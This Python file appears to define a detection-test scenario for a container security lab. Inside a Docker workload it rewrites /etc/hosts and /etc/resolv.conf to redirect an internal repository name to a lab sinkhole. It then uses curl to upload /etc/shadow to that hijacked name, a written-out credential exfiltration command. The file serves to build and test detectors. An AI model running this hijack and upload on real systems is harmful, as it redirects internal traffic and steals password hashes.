"""Hosts and resolver hijack inside a container: internal names now lead to the attacker's endpoint."""

from __future__ import annotations

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.variants import Dimension


class NameHijack(Scenario):
    id = "docker.network.name-hijack"
    title = "Hosts file and resolver hijack send a sanctioned internal name to an outside endpoint"
    kind = Kind.ADVERSARY
    techniques = ("T1557", "T1565.002")
    backends = ("docker",)
    expect = Expectation(fires=("stowaway.net.name-hijack",), within_s=15, may_fire={
        "stowaway.net.process-egress-not-allowlisted":
            "After the hijack its curl really connects to the sinkhole on the lab internet to upload the "
            "credentials file.",
        "stowaway.net.egress-not-allowlisted":
            "Its hijacked upload and DNS question really leave the application for the sinkhole on the lab "
            "internet, outside the egress allowlist.",
    })
    twin = "docker.network.sanctioned-proxy"
    tags = ("network", "redirection", "dns")
    dimensions = (
        Dimension("method", ("shell", "python", "tee"), doc="how the two files are rewritten in place (both are "
                  "bind mounts, so a rename over them fails): a shell's redirection, Python, or tee"),
    )
    description = (
        "Deploys the internal package repository on the LAN and an application on the LAN and the lab "
        "internet whose hosts file maps repo.corp.internal to the repository (the platform's static entry); "
        "the application fetches from it once, normally. Then, inside the application, the attacker rewrites "
        "/etc/hosts so repo.corp.internal points to the sinkhole and /etc/resolv.conf so the sinkhole is the "
        "resolver (it answers every question with its own address). The application uploads its credentials "
        "file to http://repo.corp.internal/ and resolves updates.corp.internal. Variants rewrite the files "
        "from Python or with tee. The scenario checks the "
        "sinkhole got both the HTTP request for repo.corp.internal and the DNS question."
    )

    def detonate(self, lab: Lab) -> None:
        sink = lab.sinkhole.address
        repo = lab.deploy(WorkloadSpec(role="repo", networks=("lan",), labels={"app": "pkg-mirror"},
                                       command=("python3", "-m", "http.server", "80", "--directory", "/usr/share")))
        app = lab.deploy(WorkloadSpec(role="app", networks=("lan", "inet"), labels={"app": "deploy-agent"},
                                      extra_hosts={"repo.corp.internal": repo.addresses["lan"]}))
        lab.exec(app, "sh", "-c", "for i in 1 2 3 4 5 6 7 8 9 10; do curl -sf -m 2 -o /dev/null "
                                  "http://repo.corp.internal/ && exit 0; sleep 0.5; done; exit 1")
        lab.action("rewrite the app's hosts file and resolver to point internal names at the outside endpoint")
        hosts = f"grep -v repo.corp.internal /etc/hosts > /tmp/hosts; echo '{sink} repo.corp.internal' >> /tmp/hosts"
        method = self.variant["method"]
        if method == "shell":
            rewrite = f"cat /tmp/hosts > /etc/hosts; echo 'nameserver {sink}' > /etc/resolv.conf"
        elif method == "tee":
            rewrite = (f"tee /etc/hosts < /tmp/hosts >/dev/null; "
                       f"echo 'nameserver {sink}' | tee /etc/resolv.conf >/dev/null")
        else:
            rewrite = (f"python3 -c \"open('/etc/hosts', 'w').write(open('/tmp/hosts').read()); "
                       f"open('/etc/resolv.conf', 'w').write('nameserver {sink}\\\\n')\"")
        lab.exec(app, "sh", "-c", f"{hosts}; {rewrite}")
        lab.exec(app, "sh", "-c", "curl -s -m 5 -o /dev/null --data-binary @/etc/shadow http://repo.corp.internal/upload")
        lab.exec(app, "getent", "hosts", "updates.corp.internal")
        source = app.addresses["inet"]

        def arrived() -> bool:
            records = lab.sinkhole_records(peer=source)
            http = any("repo.corp.internal" in r.get("head", "") for r in records if r.get("proto") == "tcp")
            dns = any(r.get("head") == "updates.corp.internal" for r in records if r.get("proto") == "dns")
            return http and dns

        lab.wait_for(arrived, timeout=10, what="the hijacked request and DNS question to reach the sinkhole")
